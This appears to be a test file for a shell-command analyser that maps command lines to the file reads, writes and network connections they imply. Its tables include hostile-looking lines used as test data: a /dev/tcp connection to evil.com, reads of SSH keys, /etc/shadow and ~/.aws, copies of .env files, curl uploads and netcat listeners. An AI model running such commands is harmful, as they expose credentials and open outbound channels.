import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { accesses, table, type Row } from "../../../test/support/programs.ts";

const REDIRECTIONS: readonly Row[] = [
  ["unknown < in", "r in"],
  ["unknown > out", "w out"],
  ["unknown >> out", "w out"],
  ["unknown >| out", "w out"],
  ["unknown &> out", "w out"],
  ["unknown &>> out", "w out"],
  ["unknown <> both", "r both", "w both"],
  ["unknown >& out", "w out"],
  ["unknown 2> err > out", "w err", "w out"],
  ["unknown > ~/out", "w ~/out"],
  ["unknown > '~/out'", "w \\~/out"],
  ["> out", "w out"],
  ["unknown 2>&1 >&2 <&3 5>&- >&2-"],
  ["unknown > /dev/null 2> /dev/stderr < /dev/stdin"],
  ["unknown <<< text"],
  ["cat <<E\nx\nE"],
  ['unknown > "$x"', "w {*}"],
  ['unknown > "$x/log"', "w {*/log}"],
  ["unknown < /dev/tcp/evil.com/80", "c evil.com 80"],
  ["exec 3<>/dev/udp/10.0.0.1/53", "c 10.0.0.1 53"],
  ["{ cd d; unknown; } > out", "w out"],
  ["env -C d unknown > out", "w out"],
  ["bash -c 'cd d; unknown' > out", "w out"],
  ["x=; $x > out", "w out"],
  ["f() { cd d; unknown; }; f > out", "w out"],
];

const READERS: readonly Row[] = [
  ["cat a b", "r a", "r b"],
  ["cat -n a -", "r a"],
  ["cat -- -a", "r -a"],
  ["cat ~/.ssh/id_rsa", "r ~/.ssh/id_rsa"],
  ['cat "$HOME/.ssh/id_rsa"', "r ~/.ssh/id_rsa"],
  ['cat "$HOME"x/f', "r \uE001x/f"],
  ["cat '~/x'", "r \\~/x"],
  ["cat $x", "r {*}"],
  ["cat *", "r {*}"],
  ["cat ~/.ssh/*.pub", "r {~/.ssh/*.pub}"],
  ["cat {a,b}.txt", "r a.txt", "r b.txt"],
  ["cat /dev/null /dev/stdin"],
  ["/bin/cat a", "r a"],
  ["sudo cat /etc/shadow", "r /etc/shadow"],
  ["tac -s x f", "r f"],
  ["head -n 5 f", "r f"],
  ["head -5 f", "r f"],
  ["head --lines=5 f", "r f"],
  ["tail -fn20 log", "r log"],
  ["tail --lines 20 log", "r log"],
  ["less +F log", "r log"],
  ["bat --language js x", "r x"],
  ["nl -w 3 f", "r f"],
  ["od -A x -t x1z f", "r f"],
  ["xxd f", "r f"],
  ["xxd -r f out", "r f", "w out"],
  ["hexdump -C f", "r f"],
  ["strings -n 8 f", "r f"],
  ["base64 -w0 f", "r f"],
  ["sha256sum a b", "r a", "r b"],
  ["shasum -a 256 f", "r f"],
  ["wc -l a", "r a"],
  ["sort -k2 -o out in", "w out", "r in"],
  ["sort -oout in", "w out", "r in"],
  ["sort --output=out in", "w out", "r in"],
  ["uniq in out", "r in", "w out"],
  ["cut -d: -f1 /etc/passwd", "r /etc/passwd"],
  ["cut -d : -f 1 /etc/passwd", "r /etc/passwd"],
  ["paste -d, a b", "r a", "r b"],
  ["tr a b"],
  ["fold -w 80 f", "r f"],
  ["column -t -s, f", "r f"],
  ["diff -u a b", "r a", "r b"],
  ["cmp a b 10", "r a", "r b"],
  ["file -f list x", "r list", "r x"],
  ["stat f"],
  ["ls", "r ."],
  ["ls -la d", "r d"],
  ["du -sh d", "r* d"],
  ["du -d 1", "r* ."],
  ["tree -L 2 d", "r* d"],
  ["source .env", "r .env"],
  [". ./x.sh arg", "r ./x.sh"],
  ["xargs -a list rm", "r list", "? path list", "w {*}"],
  ["xargs -I{} cp {} d/f", "r {*}", "w d/f"],
];

const SEARCHES: readonly Row[] = [
  ["grep foo a b", "r a", "r b"],
  ["grep -rn foo src", "r** src"],
  ["grep -r foo", "r** ."],
  ["unknown | grep foo"],
  ["grep -e foo a", "r a"],
  ["grep -f patterns a", "r patterns", "r a"],
  ["grep -A 3 foo a", "r a"],
  ["grep --include '*.ts' foo -r src", "r** src"],
  ["egrep foo a", "r a"],
  ["rg foo src", "r** src"],
  ["rg -g '*.ts' -e foo src", "r** src"],
  ["rg --files src", "r** src"],
  ["rg -t ts foo"],
  ["ag -G x foo src", "r** src"],
  ["sed -n 1,5p f", "r f"],
  ["sed -i s/a/b/ f", "r f", "w f"],
  ["sed -i.bak s/a/b/ f", "r f", "w f", "w f.bak"],
  ["sed -i '' s/a/b/ f", "r f", "w f"],
  ["sed --in-place=.bak -e s/a/b/ f", "r f", "w f", "w f.bak"],
  ["sed -Ei s/a/b/ f g", "r f", "w f", "r g", "w g"],
  ["sed -f prog f", "r prog", "r f"],
  ["awk '{print}' f", "r f"],
  ["awk -F: -v x=1 '{print}' y=2 f", "r f"],
  ["awk -f prog f", "r prog", "r f"],
  ["gawk -i inplace 1 f", "r f", "w f"],
  ["jq .a f", "r f"],
  ["jq --arg a b .a f", "r f"],
  ["jq --slurpfile x data .a f", "r data", "r f"],
  ["jq -rf prog f", "r prog", "r f"],
  ["yq .a f", "r f"],
  ["yq -i '.a=1' f", "r f", "w f"],
  ["yq eval .a f", "r f"],
];

const FILES: readonly Row[] = [
  ["rm -rf a b", "w** a", "w** b"],
  ["rm -- -x", "w -x"],
  ["rmdir d", "w d"],
  ["unlink f", "w f"],
  ["shred -n 3 -u f", "w f"],
  ["truncate -s 0 f", "w f"],
  ["touch -r ref f", "w f"],
  ["mkdir -p -m 700 d/e", "w d/e"],
  ["mktemp"],
  ["chmod 600 f", "w f"],
  ["chmod -R u+x d", "w** d"],
  ["chmod -x f", "w f"],
  ["chmod +x f", "w f"],
  ["chown -R me:me d", "w** d"],
  ["chgrp --reference=r f", "r r", "w f"],
  ["tee a b", "w a", "w b"],
  ["echo x | sudo tee -a /etc/hosts", "w /etc/hosts"],
  ["cp a b", "r a", "w b"],
  ["cp a b d", "r a", "r b", "w d", "w d/a", "w d/b"],
  ["cp ~/.env /tmp/", "r ~/.env", "w /tmp/", "w /tmp/.env"],
  ["cp -t d a", "r a", "w d", "w d/a"],
  ["cp --target-directory=d a", "r a", "w d", "w d/a"],
  ["cp $x dest", "r {*}", "w dest"],
  ["mv a b", "r** a", "w** a", "w b"],
  ["mv a .", "r** a", "w** a", "w .", "w ./a"],
  ["ln -s /etc/passwd link", "r /etc/passwd", "w link"],
  ["ln -s ../x d/link", "r d/../x", "w d/link"],
  ["ln -s /a/b", "r /a/b", "w b"],
  ["install -m 755 a /usr/bin/a", "r a", "w /usr/bin/a"],
  ["install -d a b", "w a", "w b"],
  ["dd if=/dev/zero of=disk bs=1M", "r /dev/zero", "w disk"],
  ["dd of=~/x", "w ~/x"],
  ['dd if=a "$X"', "r a", '? path "$X"'],
  ["split -l 10 f", "r f", "w xaa"],
  ["split f part-", "r f", "w part-aa"],
  ["find", "r* ."],
  ["find ~/.aws -type f", "r* ~/.aws"],
  ["find a b -name x -delete", "r* a", "r* b", "r {a/**/x}", "w {a/**/x}", "r {b/**/x}", "w {b/**/x}"],
  ["find a -fprint out", "r* a", "w out"],
  ["find a -exec cp b c ';' -delete", "r* a", "r** a", "w** a", "r b", "w c"],
  ["vim +10 f", "r f", "w f"],
  ["vim -R f", "r f"],
  ["vim -es +q f", "r f", "w f"],
  ["nano f", "r f", "w f"],
  ["emacs -nw --eval x f", "r f", "w f"],
  ["code --user-data-dir x f", "r f", "w f"],
  ["tar xzf a.tgz", "r a.tgz", "w ."],
  ["tar -xzf a.tgz -C d", "r a.tgz", "w d"],
  ["tar -xf a.tar f", "r a.tar", "w f"],
  ["tar tf a.tar", "r a.tar"],
  ["tar -czf out.tgz a b", "w out.tgz", "r** a", "r** b"],
  ["tar czf out.tgz -C d a", "w out.tgz", "r** d/a"],
  ["tar cf - d | unknown", "r** d"],
  ["tar --create --file=o --exclude x d", "w o", "r** d"],
  ["zip -r out d", "w out.zip", "r** d"],
  ["zip out.zip a -x '*.o' b", "w out.zip", "r a"],
  ["unzip a.zip -d d", "r a.zip", "w d"],
  ["unzip -l a.zip", "r a.zip"],
  ["gzip f", "r f", "w f", "w f.gz"],
  ["gzip -k f", "r f", "w f.gz"],
  ["gunzip f.gz", "r f.gz", "w f.gz", "w f"],
  ["zcat f.gz", "r f.gz"],
  ["xz -dc f.xz", "r f.xz"],
  ["zstd -o out f", "r f", "w out"],
  ["openssl enc -aes256 -in a -out b", "r a", "w b"],
  ["openssl dgst -sha256 f", "r f"],
  ["openssl s_client -connect h.com:443", "c h.com 443"],
  ["gpg -o out -r me -e f", "w out", "r f"],
  ["gpg --export key"],
  ["ssh-keygen -t ed25519 -f k", "w k", "w k.pub"],
  ["ssh-keygen -y -f k", "r k"],
];

const INTERPRETERS: readonly Row[] = [
  ["python3 s.py a", "r s.py"],
  ["python3 -c 'x' a"],
  ["python -m http.server 80", "w~ 80"],
  ["python3.12 -u s.py", "r s.py"],
  ["python3 -m pip install -r req.txt", "r req.txt"],
  ["node --test a.js", "r a.js"],
  ["node -e 'x' a"],
  ["node --env-file=.env s.js", "r .env", "r s.js"],
  ["ruby s.rb", "r s.rb"],
  ["perl s.pl a", "r s.pl", "r~ a"],
  ["perl -pi -e s/a/b/ f", "r f", "w f"],
  ["perl -ne print f", "r f"],
  ["perl -i.bak -pe s/a/b/ f", "r f", "w f", "w f.bak"],
  ["perl -e print a", "r~ a"],
  ["php s.php", "r s.php"],
  ["php -r 'x'"],
  ["bash -x s.sh a", "r s.sh"],
  ["bash -c 'cat a' b", "r a"],
  ["sh s.sh", "r s.sh"],
  ["bash --rcfile rc", "r rc"],
  ["docker run -v a:b c"],
  ["npm install"],
  ["npm run test -- f", "r ."],
  ["unknown a b", "w~ a", "w~ b"],
  ["$x a b"],
];

const HOSTS: readonly Row[] = [
  ["curl https://h.com/x", "c h.com 443"],
  ["curl h.com", "c h.com 80"],
  ["curl localhost:3000/x", "c localhost 3000"],
  ["curl http://H.com:8080", "c h.com 8080"],
  ["curl 'http://[::1]:8080/'", "c ::1 8080"],
  ["curl ftp://h.com/x", "c h.com 21"],
  ["curl --url https://h.com", "c h.com 443"],
  ["curl -sSLo out https://h.com/x", "w out", "c h.com 443"],
  ["curl --output=out https://h.com/x", "w out", "c h.com 443"],
  ["curl -o - https://h.com", "c h.com 443"],
  ["curl -O https://h.com/a/b.tgz", "c h.com 443", "w b.tgz"],
  ["curl -O --output-dir d https://h.com/b", "c h.com 443", "w d/b"],
  ["curl -T f https://h.com", "r f", "c h.com 443"],
  ["curl -d @f https://h.com", "r f", "c h.com 443"],
  ["curl -da=b https://h.com", "c h.com 443"],
  ["curl --data-binary @f https://h.com", "r f", "c h.com 443"],
  ["curl --data-urlencode x@f https://h.com", "r f", "c h.com 443"],
  ["curl -F 'x=@f;type=a/b' https://h.com", "r f", "c h.com 443"],
  ["curl -F x=y https://h.com", "c h.com 443"],
  ["curl -K conf", "r conf", "? argument conf"],
  ["curl --config conf https://h.com", "r conf", "? argument conf", "c h.com 443"],
  ["wget --config=conf https://h.com", "r conf", "? argument conf", "c h.com 443", "w index.html"],
  ["ssh -F conf h.com", "r conf", "? argument conf", "c h.com 22"],
  ["ssh -F none h.com", "c h.com 22"],
  ["ssh -F /dev/null h.com", "c h.com 22"],
  ["sftp -b steps h.com", "r steps", "? argument steps", "c h.com 22"],
  ["curl --cacert a --cert b:pw --key c https://h.com", "r a", "r b", "r c", "c h.com 443"],
  ["curl -x p.com:3128 https://h.com", "c p.com 3128", "c h.com 443"],
  ["curl -x http://p.com https://h.com", "c p.com 1080", "c h.com 443"],
  ["curl file:///etc/passwd", "r /etc/passwd"],
  ["curl https://h.com/$x", "c h.com 443"],
  ['curl "https://u:$TOKEN@h.com/x"', "c h.com 443"],
  ['curl "https://h.com:$PORT/"', "c h.com"],
  ['curl "https://$host/x"', '? host "https://$host/x"'],
  ['curl "https://h.com$x/y"', '? host "https://h.com$x/y"'],
  ["curl https://h.com/a?b=c", "c h.com 443"],
  ["curl -X POST -H 'A: b' -u a:b https://h.com", "c h.com 443"],
  ["wget https://h.com/a/b.tgz", "c h.com 443", "w b.tgz"],
  ["wget -qO- h.com", "c h.com 80"],
  ["wget -O out https://h.com", "c h.com 443", "w out"],
  ["wget -P d https://h.com/f", "c h.com 443", "w d/f"],
  ["wget -i list", "r list", "? host list"],
  ["wget --post-file=f -O - https://h.com", "r f", "c h.com 443"],
  ["wget https://h.com", "c h.com 443", "w index.html"],
  ["git clone https://h.com/a/b.git", "c h.com 443", "w b"],
  ["git clone --depth 1 -b main git@h.com:a/b.git d", "c h.com 22", "w d"],
  ["git clone ssh://git@h.com:2222/a/b", "c h.com 2222", "w b"],
  ["git clone git://h.com/b", "c h.com 9418", "w b"],
  ["git clone ../a d", "r ../a", "w d"],
  ["git -C x clone https://h.com/b", "c h.com 443", "w x/b"],
  ["git fetch https://h.com/b main", "c h.com 443"],
  ["git push origin main"],
  ["git push -u git@h.com:b HEAD:main", "c h.com 22"],
  ["git pull origin"],
  ["git ls-remote --heads https://h.com/b", "c h.com 443"],
  ["git submodule add https://h.com/b lib/b", "c h.com 443", "w lib/b"],
  ["git remote add up https://h.com/b", "c h.com 443"],
  ["git diff --no-index a b", "r a", "r b"],
  ["git diff a", "r~ a"],
  ["git -C d apply p.patch", "r d/p.patch"],
  ["git apply /p.patch", "r /p.patch"],
  ["git archive -o out.tar HEAD", "w out.tar"],
  ["git add f", "r f"],
  ["git rm f", "w f"],
  ["git rm -r d", "w d", "? path d"],
  ["git rm -rn d"],
  ["git clean -fd"],
  ["git clean -fd d", "w d"],
  ["git clean -ffdx", "w** ."],
  ["git clean -fX d", "w** d"],
  ["git clean -fdxn"],
  ["git -c include.path=f status", "r f", "? argument f"],
  ["git --exec-path=d status", "? program d"],
  ["git --exec-path"],
  ["ssh h.com", "c h.com 22"],
  ["ssh -p 2222 me@h.com cat /etc/shadow", "c h.com 2222"],
  ["ssh -i k me@h.com", "r k", "c h.com 22"],
  ["ssh h.com -p 2222 ls", "c h.com 2222"],
  ["ssh -o Port=2222 -J j.com h.com", "c j.com 22", "c h.com 2222"],
  ["ssh h.com cat x > out", "w out", "c h.com 22"],
  ["scp f me@h.com:x", "r f", "c h.com 22"],
  ["scp -P 2222 h.com:x f", "c h.com 2222", "w f"],
  ["sftp -b batch h.com", "r batch", "? argument batch", "c h.com 22"],
  ["rsync -a d/ h.com:d", "r** d/", "c h.com 22"],
  ["rsync -e 'ssh -p 2222' h.com:d .", "c h.com 2222", "w ."],
  ["rsync -a a b", "r** a", "w b"],
  ["rsync rsync://h.com/m d", "c h.com 873", "w d"],
  ["rsync --exclude-from=x h.com::m d", "r x", "c h.com 873", "w d"],
  ["nc h.com 80", "c h.com 80"],
  ["nc -w 3 -z h.com 80", "c h.com 80"],
  ["nc -lvp 4444"],
  ["telnet h.com", "c h.com 23"],
  ["pip install -r req.txt", "r req.txt"],
  ["pip3 install --index-url https://h.com/simple x", "c h.com 443"],
  ["pip install https://h.com/x.whl", "c h.com 443"],
  ["pip install git+https://h.com/x", "c h.com 443"],
  ["npm install https://h.com/x.tgz", "c h.com 443"],
  ["npm install --registry http://h.com x", "c h.com 80"],
];

table("redirections", REDIRECTIONS);
table("readers", READERS);
table("searches", SEARCHES);
table("files", FILES);
table("interpreters", INTERPRETERS);
table("hosts", HOSTS);

const ALL = [...REDIRECTIONS, ...READERS, ...SEARCHES, ...FILES, ...INTERPRETERS, ...HOSTS];

test("the tables have many different lines", () => {
  expect(new Set(ALL.map(([line]) => line)).size).toBeGreaterThanOrEqual(150);
});

describe("properties", () => {
  // One command without anything that a quote would take its meaning from.
  const plain = ALL.filter(([line, ...expected]) => expected.length > 0 && /^[\w ./:=@,+%-]+$/.test(line));
  const styles: readonly ((word: string) => string)[] = [
    (word) => word,
    (word) => `'${word}'`,
    (word) => `"${word}"`,
    (word) => `${word.slice(0, 1)}''${word.slice(1)}`,
    (word) => `\\${word}`,
  ];

  test("most lines take part", () => {
    expect(plain.length).toBeGreaterThan(120);
  });

  test("quoting words and naming the program by its path keep the accesses", () => {
    const row = fc.constantFrom(...plain);
    const choice = fc.array(fc.constantFrom(...styles), { minLength: 12, maxLength: 12 });
    fc.assert(
      fc.property(row, choice, fc.boolean(), ([line, ...expected], quoting, byPath) => {
        const words = line.split(" ").map((word, i) => (quoting[i] ?? String)(word));
        // Builtins have no path.
        const isBuiltin = /^(source|\.)$/.test(line.split(" ")[0] ?? "");
        const shown = `${byPath && !isBuiltin ? "/usr/bin/" : ""}${words.join(" ")}`;
        expect(accesses(shown)).toEqual(expected);
      }),
      { numRuns: 2000 },
    );
  });

  test("every plain line under /usr/bin, quoted throughout", () => {
    for (const [line, ...expected] of plain) {
      const [program = "", ...words] = line.split(" ");
      const path = program === "." || program === "source" ? program : `/usr/bin/${program}`;
      expect([line, ...accesses(`${path} ${words.map((word) => `'${word}'`).join(" ")}`)]).toEqual([
        line,
        ...expected,
      ]);
    }
  });

  test("no line makes it throw", () => {
    const words = ALL.flatMap(([line]) => line.split(" "));
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...words), { maxLength: 12 }), (some) => {
        for (const one of accesses(some.join(" "))) expect(one).toMatch(/^([rw][*~]*|[c?]) ./);
      }),
      { numRuns: 3000 },
    );
  });
});

test("a remote command gives nothing, and neither does its redirection", () => {
  expect(accesses("ssh h.com 'cat /etc/shadow > out'")).toEqual(["c h.com 22"]);
});

test("words and places in them that are too many to look at are not known", () => {
  const many = `tool ${Array.from({ length: 101 }, (_, i) => `w${i}`).join(" ")} ~/.aws/x`;
  expect(accesses(many)).toContain("? argument w100");
  expect(accesses(`tool ${"a=".repeat(300)}~/.aws/x`)).toEqual([`? argument ${"a=".repeat(20)}`]);
});
